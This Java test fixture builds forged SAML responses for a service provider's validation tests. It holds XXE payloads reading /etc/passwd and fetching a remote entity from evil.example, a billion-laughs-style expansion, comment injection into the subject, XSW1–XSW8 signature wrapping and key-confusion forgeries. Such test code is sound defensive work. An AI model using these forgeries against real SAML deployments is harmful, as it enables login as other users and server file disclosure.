package dev.guildhall.identity.internal.saml;

import static dev.guildhall.testkit.saml.SamlDraft.audience;
import static dev.guildhall.testkit.saml.XmlSigner.ENVELOPED;
import static dev.guildhall.testkit.saml.XmlSigner.EXCLUSIVE;
import static dev.guildhall.testkit.saml.XmlSigner.assertion;

import dev.guildhall.testkit.saml.FakeSamlProvider;
import dev.guildhall.testkit.saml.SamlDraft;
import dev.guildhall.testkit.saml.TestCertificate;
import dev.guildhall.testkit.saml.XmlSigner;
import java.security.Key;
import java.util.List;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.params.provider.Arguments;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/** Answers of a SAML provider that are wrong in one thing each, and otherwise as they must be. */
final class SamlForgeries {

    private static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";
    private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";

    private SamlForgeries() {}

    /** Makes the XML of an answer out of a draft that is right. */
    interface Forgery {
        String make(FakeSamlProvider provider, SamlDraft draft);
    }

    /** One of which nobody would say that it is signed by the provider. */
    private static Arguments of(String rule, String what, Forgery forgery) {
        return Arguments.of(rule, what, false, forgery);
    }

    /** One whose signature holds for everybody who looks at nothing else. */
    private static Arguments sound(String rule, String what, Forgery forgery) {
        return Arguments.of(rule, what, true, forgery);
    }

    /** What the provider itself says wrongly, and signs. */
    private static Arguments said(String rule, String what, Consumer<SamlDraft> change) {
        return sound(rule, what, (provider, draft) -> {
            change.accept(draft);
            return provider.signed(draft);
        });
    }

    private static Arguments saidInSignedResponse(String rule, String what, Consumer<SamlDraft> change) {
        return sound(rule, what, (provider, draft) -> {
            change.accept(draft);
            return responseSigned(provider, draft);
        });
    }

    /** How it is signed wrongly. */
    private static Arguments signedBy(String rule, String what, Consumer<XmlSigner> change) {
        // What has no transforms has its own signature in what is signed, which nobody can make.
        var holds = !rule.equals("WRONG_KEY") && !what.contains("secret") && !what.contains("without transforms");
        return Arguments.of(rule, what, holds, (Forgery) (provider, draft) -> {
            var document = XmlSigner.parse(draft.response());
            var signer = provider.signer();
            change.accept(signer);
            signer.sign(assertion(document));
            return XmlSigner.text(document);
        });
    }

    /** What somebody makes of the text of a good answer. */
    private static Arguments rewritten(String rule, String what, UnaryOperator<String> change) {
        return of(rule, what, (provider, draft) -> change.apply(provider.signed(draft)));
    }

    private static Arguments hidden(String what, UnaryOperator<String> change) {
        return sound("MORE_THAN_TEXT", what, (provider, draft) -> change.apply(provider.signed(draft)));
    }

    /** What somebody makes of a good answer, so that its signature still is good. */
    private static Arguments wrapped(String what, Consumer<Document> change) {
        // Not every parser takes an assertion right in a signature.
        return Arguments.of(
                "NOT_ONE_ASSERTION", "wrapping " + what, !what.startsWith("6"), (Forgery) (provider, draft) -> {
                    var document = XmlSigner.parse(provider.signed(draft));
                    change.accept(document);
                    return XmlSigner.text(document);
                });
    }

    private static Arguments wrappedResponse(String what, Consumer<Document> change) {
        return sound("NOT_ONE_ASSERTION", "wrapping " + what, (provider, draft) -> {
            var document = XmlSigner.parse(responseSigned(provider, draft));
            change.accept(document);
            return XmlSigner.text(document);
        });
    }

    static String responseSigned(FakeSamlProvider provider, SamlDraft draft) {
        var document = XmlSigner.parse(draft.response());
        provider.signer().sign(document.getDocumentElement());
        return XmlSigner.text(document);
    }

    static Stream<Arguments> all() {
        return Stream.of(keys(), xml(), wrappings(), signatures(), statements()).flatMap(each -> each);
    }

    private static Stream<Arguments> keys() {
        return Stream.of(
                of("UNSIGNED", "signed by nobody", (provider, draft) -> draft.response()),
                signedBy("WRONG_KEY", "signed by another key", signer -> signer.key = strange()),
                signedBy("WRONG_KEY", "signed by another key whose certificate it brings along", signer -> {
                    signer.key = strange();
                    signer.shown = FakeSamlProvider.STRANGE;
                }),
                signedBy("WRONG_KEY", "signed by another key, with the right certificate beside it", signer -> {
                    signer.key = strange();
                    signer.shown = FakeSamlProvider.CURRENT;
                }),
                signedBy("WRONG_KEY", "signed by a key of another kind", signer -> {
                    signer.key = TestCertificate.ec().keys().getPrivate();
                    signer.method = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256";
                }),
                of(
                        "WRONG_KEY",
                        "whose response is signed by another key and its assertion by the right one",
                        (p, draft) -> {
                            var document = XmlSigner.parse(p.signed(draft));
                            new XmlSigner(strange()).sign(document.getDocumentElement());
                            return XmlSigner.text(document);
                        }),
                signedBy("ALGORITHM", "signed by RSA with SHA-1", signer -> signer.method = DSIG + "rsa-sha1"),
                signedBy("ALGORITHM", "with a digest by SHA-1", signer -> signer.digest = DSIG + "sha1"),
                signedBy("ALGORITHM", "authenticated with the public key as a secret", signer -> {
                    var secret = FakeSamlProvider.CURRENT.keys().getPublic().getEncoded();
                    signer.key = new SecretKeySpec(secret, "HmacSHA256");
                    signer.method = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
                }),
                rewritten("CHANGED", "whose subject was changed", xml -> xml.replace(">ada<", ">eve<")),
                rewritten("CHANGED", "whose address was changed", xml -> xml.replace("@acme", "@evil")),
                of(
                        "CHANGED",
                        "whose response is signed and whose subject was changed",
                        (provider, draft) -> responseSigned(provider, draft).replace(">ada<", ">eve<")),
                rewritten(
                        "WRONG_KEY",
                        "whose signature was changed",
                        xml -> xml.replaceFirst("(<ds:SignatureValue>)([^<]{20})", "$1" + "A".repeat(20))));
    }

    private static Key strange() {
        return FakeSamlProvider.STRANGE.keys().getPrivate();
    }

    private static Stream<Arguments> xml() {
        return Stream.of(
                rewritten("DOCTYPE", "with a document type", xml -> "<!DOCTYPE a>" + xml),
                rewritten(
                        "DOCTYPE",
                        "with a file of this server in it",
                        xml -> "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                                + xml.replace(">Ada Lovelace<", ">&x;<")),
                rewritten(
                        "DOCTYPE",
                        "with an entity that grows",
                        xml -> "<!DOCTYPE a [<!ENTITY x \"" + "x".repeat(1_000) + "\"><!ENTITY y \""
                                + "&x;".repeat(1_000) + "\">]>" + xml.replace(">Ada Lovelace<", ">&y;<")),
                rewritten(
                        "DOCTYPE",
                        "with a parameter that is elsewhere",
                        xml -> "<!DOCTYPE a [<!ENTITY % x SYSTEM \"https://evil.example/x\">%x;]>" + xml),
                hidden("with a comment in the subject", xml -> xml.replace(">ada<", ">ad<!---->a<")),
                hidden("with a comment in the address", xml -> xml.replace("@acme", "@<!-- evil.example -->acme")),
                said("MORE_THAN_TEXT", "with an instruction in the subject", draft -> draft.subject = "ad<?x y?>a"),
                hidden("with raw characters", xml -> xml.replace(">ada<", "><![CDATA[ada]]><")),
                of("NOT_XML", "of other text", (provider, draft) -> "ada"),
                rewritten("NOT_XML", "that breaks off", xml -> xml.substring(0, xml.length() - 20)),
                of(
                        "NOT_XML",
                        "that is too deep",
                        (provider, draft) -> draft.response("<a>".repeat(20_000) + "</a>".repeat(20_000))),
                of("TOO_LARGE", "that is too large", (provider, draft) -> draft.response("x".repeat(256 * 1_024))),
                sound("NOT_A_RESPONSE", "that is an assertion only", (provider, draft) -> {
                    var document = XmlSigner.parse(draft.assertion());
                    provider.signer().sign(document.getDocumentElement());
                    return XmlSigner.text(document);
                }),
                rewritten(
                        "NOT_A_RESPONSE",
                        "to another question",
                        xml -> xml.replace("samlp:Response", "samlp:LogoutResponse")),
                said("NOT_A_RESPONSE", "of another version", draft -> draft.version = "1.1"),
                said("NOT_A_RESPONSE", "of a time that is none", draft -> draft.notOnOrAfter = "tomorrow"),
                said("ID_REPEATED", "with one id for two", draft -> draft.id = draft.assertionId),
                rewritten(
                        "ID_REPEATED",
                        "with one id under two names",
                        xml -> xml.replaceFirst("<samlp:Status>", "<samlp:Status Id=\"same\" id=\"same\">")),
                said("ID_REPEATED", "without an id", draft -> draft.id = null));
    }

    /** XSW1 to XSW8 of Somorovsky and others, "On Breaking SAML" (2012), and two simpler ones. */
    private static Stream<Arguments> wrappings() {
        return Stream.of(
                wrappedResponse("1: the signed response in an object of the signature", document -> {
                    var original = (Element) document.getDocumentElement().cloneNode(true);
                    remove(XmlSigner.only(original, "Signature"));
                    forge(document.getDocumentElement(), "ID", "_forged");
                    object(document, XmlSigner.only(document, "Signature")).appendChild(original);
                }),
                wrappedResponse("2: the signed response before its signature", document -> {
                    var original = (Element) document.getDocumentElement().cloneNode(true);
                    remove(XmlSigner.only(original, "Signature"));
                    forge(document.getDocumentElement(), "ID", "_forged");
                    var signature = XmlSigner.only(document, "Signature");
                    signature.getParentNode().insertBefore(original, signature);
                }),
                wrapped("3: a forged assertion before the signed one", document -> {
                    var original = assertion(document);
                    original.getParentNode().insertBefore(forged(document), original);
                }),
                wrapped("4: the signed assertion in the forged one", document -> {
                    var original = assertion(document);
                    var forged = forged(document);
                    original.getParentNode().replaceChild(forged, original);
                    forged.appendChild(original);
                }),
                wrapped("5: the signature in the forged assertion, the signed one behind it", document -> {
                    var original = assertion(document);
                    var signature = XmlSigner.only(document, "Signature");
                    var forged = forged(document);
                    original.removeChild(signature);
                    original.getParentNode().insertBefore(forged, original);
                    forged.insertBefore(signature, forged.getFirstChild().getNextSibling());
                }),
                wrapped("6: the signed assertion in the signature of the forged one", document -> {
                    var original = assertion(document);
                    var signature = XmlSigner.only(document, "Signature");
                    var forged = forged(document);
                    original.getParentNode().replaceChild(forged, original);
                    original.removeChild(signature);
                    signature.appendChild(original);
                    forged.insertBefore(signature, forged.getFirstChild().getNextSibling());
                }),
                wrapped("7: a forged assertion in an extension", document -> {
                    var extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
                    extensions.appendChild(forged(document));
                    var original = assertion(document);
                    original.getParentNode().insertBefore(extensions, original);
                }),
                wrapped("8: the signed assertion in an object of the forged one's signature", document -> {
                    var original = assertion(document);
                    var signature = XmlSigner.only(document, "Signature");
                    var forged = forged(document);
                    original.getParentNode().replaceChild(forged, original);
                    original.removeChild(signature);
                    object(document, signature).appendChild(original);
                    forged.insertBefore(signature, forged.getFirstChild().getNextSibling());
                }),
                sound("NOT_ONE_ASSERTION", "two assertions, both signed", (provider, draft) -> {
                    var first = draft.assertion();
                    draft.assertionId = "_second";
                    var document = XmlSigner.parse(draft.response(first + draft.assertion()));
                    provider.signer().sign(document.getDocumentElement());
                    return XmlSigner.text(document);
                }),
                sound("NOT_ONE_ASSERTION", "no assertion, though the response is signed", (provider, draft) -> {
                    var document = XmlSigner.parse(draft.response(""));
                    provider.signer().sign(document.getDocumentElement());
                    return XmlSigner.text(document);
                }));
    }

    private static Element forged(Document document) {
        var forged = (Element) assertion(document).cloneNode(true);
        remove(XmlSigner.only(forged, "Signature"));
        forge(forged, "ID", "_forged");
        return forged;
    }

    private static void forge(Element element, String id, String value) {
        element.setAttribute(id, value);
        XmlSigner.only(element, "NameID").setTextContent("eve");
        var assertion = element.getElementsByTagNameNS("*", "Assertion");
        if (assertion.getLength() > 0) {
            ((Element) assertion.item(0)).setAttribute(id, "_forgedAssertion");
        }
    }

    private static void remove(Element element) {
        element.getParentNode().removeChild(element);
    }

    private static Element object(Document document, Element signature) {
        var object = document.createElementNS(DSIG, "ds:Object");
        signature.appendChild(object);
        return object;
    }

    private static Stream<Arguments> signatures() {
        return Stream.of(
                sound("REFERENCE", "with a signature that was made for something else", (provider, draft) -> {
                    var other = "<samlp:Extensions ID=\"_other\"><a xmlns=\"urn:a\"/></samlp:Extensions>";
                    var document = XmlSigner.parse(draft.response(other + draft.assertion()));
                    provider.signer().sign(XmlSigner.only(document, "Extensions"), assertion(document));
                    return XmlSigner.text(document);
                }),
                signedBy("REFERENCE", "with a signature of the whole document by no name", signer -> signer.uri = ""),
                sound("REFERENCE", "with a signature of what an expression chooses", (provider, draft) -> {
                    draft.assertionId = "xpointer(id('_other'))";
                    var other = "<samlp:Extensions ID=\"_other\"><a xmlns=\"urn:a\"/></samlp:Extensions>";
                    var document = XmlSigner.parse(draft.response(other + draft.assertion()));
                    var signer = provider.signer();
                    signer.uri = "#xpointer(id('_other'))";
                    signer.sign(XmlSigner.only(document, "Extensions"), assertion(document));
                    return XmlSigner.text(document);
                }),
                of("REFERENCE", "with the signature of an answer of before", (provider, draft) -> {
                    var before = XmlSigner.parse(provider.signed(draft));
                    draft.assertionId = "_now";
                    draft.subject = "eve";
                    var document = XmlSigner.parse(draft.response());
                    var signature = document.importNode(XmlSigner.only(before, "Signature"), true);
                    var assertion = assertion(document);
                    assertion.insertBefore(signature, assertion.getFirstChild().getNextSibling());
                    return XmlSigner.text(document);
                }),
                sound("SIGNATURE_PLACE", "with a signature in a child", (provider, draft) -> {
                    var document = XmlSigner.parse(draft.response());
                    provider.signer().sign(assertion(document), XmlSigner.only(document, "Subject"));
                    return XmlSigner.text(document);
                }),
                of("SIGNATURE_PLACE", "with two signatures of one element", (provider, draft) -> {
                    var document = XmlSigner.parse(provider.signed(draft));
                    provider.signer().sign(assertion(document));
                    return XmlSigner.text(document);
                }),
                signedBy("SIGNATURE_FORM", "with two references", signer -> signer.references = 2),
                signedBy("SIGNATURE_FORM", "with no reference to be verified", signer -> signer.object = "anything"),
                rewritten(
                        "SIGNATURE_FORM",
                        "without a reference",
                        xml -> xml.replaceFirst("(?s)<ds:Reference.*</ds:Reference>", "")),
                signedBy(
                        "TRANSFORM",
                        "of which an expression chooses the signed part",
                        signer -> signer.transforms = List.of(ENVELOPED, XmlSigner.XPATH, EXCLUSIVE)),
                signedBy(
                        "TRANSFORM",
                        "that is signed with its comments",
                        signer -> signer.transforms = List.of(ENVELOPED, EXCLUSIVE + "WithComments")),
                signedBy(
                        "TRANSFORM",
                        "that is signed with all that surrounds it",
                        signer -> signer.transforms =
                                List.of(ENVELOPED, "http://www.w3.org/TR/2001/REC-xml-c14n-20010315")),
                signedBy(
                        "TRANSFORM",
                        "whose signature is canonical in another way",
                        signer -> signer.canonicalization = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
                signedBy("TRANSFORM", "that is signed without transforms", signer -> signer.transforms = List.of()),
                sound("ENCRYPTED", "that is encrypted", (provider, draft) -> {
                    var document = XmlSigner.parse(draft.response("<saml:EncryptedAssertion/>"));
                    provider.signer().sign(document.getDocumentElement());
                    return XmlSigner.text(document);
                }));
    }

    private static Stream<Arguments> statements() {
        return Stream.of(
                said("TOO_LATE", "that is over", draft -> draft.notOnOrAfter = in(draft, -61)),
                said("TOO_EARLY", "that is not yet valid", draft -> draft.notBefore = in(draft, 90)),
                said("TOO_LATE", "that nobody may present any more", draft -> draft.confirmedUntil = in(draft, -61)),
                said("CONFIRMATION", "that may be presented for ever", draft -> draft.confirmedUntil = null),
                said(
                        "TOO_LATE",
                        "of a session that is over",
                        draft -> draft.authentication = draft.authentication.replace(
                                "SessionIndex", "SessionNotOnOrAfter=\"" + in(draft, -61) + "\" SessionIndex")),
                said("AUDIENCE", "for another audience", draft -> draft.audiences = audience("https://other.example")),
                said(
                        "AUDIENCE",
                        "for an audience whose name begins the same",
                        draft -> draft.audiences = draft.audiences.replace("/metadata", "/metadata.evil.example")),
                said("AUDIENCE", "for no audience", draft -> draft.audiences = ""),
                said(
                        "AUDIENCE",
                        "for the audience, and for another alone",
                        draft -> draft.audiences += audience("https://other.example")),
                said("RECIPIENT", "for another recipient", draft -> draft.recipient = "https://other.example/acs"),
                said("RECIPIENT", "for no recipient", draft -> draft.recipient = null),
                said(
                        "CONFIRMATION",
                        "for who has a key",
                        draft -> draft.method = "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"),
                said("DESTINATION", "for another address", draft -> draft.destination = "https://other.example/acs"),
                saidInSignedResponse(
                        "DESTINATION", "for no address, signed as a whole", draft -> draft.destination = null),
                said("ISSUER", "of another issuer", draft -> draft.issuer = "https://evil.example"),
                said("ISSUER", "of no issuer", draft -> draft.issuer = null),
                said(
                        "ISSUER",
                        "whose response is of another issuer",
                        draft -> draft.responseIssuer = "https://evil.example"),
                saidInSignedResponse(
                        "ISSUER", "whose signed response is of no issuer", draft -> draft.responseIssuer = null),
                said("REQUEST", "to another request", draft -> draft.responseTo = "_another"),
                said("REQUEST", "that the provider began", draft -> draft.responseTo = null),
                said("REQUEST", "whose assertion is for another request", draft -> draft.confirmedTo = "_another"),
                said("REQUEST", "whose assertion is for no request", draft -> draft.confirmedTo = null),
                of(
                        "STATUS",
                        "that says that something failed",
                        (provider, draft) -> draft.response("").replace("status:Success", "status:Responder")),
                said(
                        "STATUS",
                        "that says that nobody is known, with an assertion",
                        draft -> draft.status = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"),
                said("NOT_AUTHENTICATED", "of nobody who has signed in", draft -> draft.authentication = ""),
                said(
                        "CONDITION",
                        "with a condition that nobody knows",
                        draft -> draft.moreConditions = "<a:Never xmlns:a=\"urn:a\"/>"),
                said("SUBJECT", "of nobody", draft -> draft.subject = null),
                said("SUBJECT", "of an empty name", draft -> draft.subject = ""),
                said("SUBJECT", "of a name that is too long", draft -> draft.subject = "x".repeat(256)),
                said("SUBJECT", "of a name with a space behind it", draft -> draft.subject = "ada "),
                said("SUBJECT", "of a name with more in it", draft -> draft.subject = "ada<a xmlns=\"urn:a\">x</a>"),
                said(
                        "SUBJECT",
                        "of a name that is another each time",
                        draft -> draft.format = "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"),
                said(
                        "SUBJECT",
                        "of a name that somebody else gave",
                        draft -> draft.qualifiers = " NameQualifier=\"https://evil.example\""));
    }

    private static String in(SamlDraft draft, int seconds) {
        return draft.now.plusSeconds(seconds).toString();
    }
}
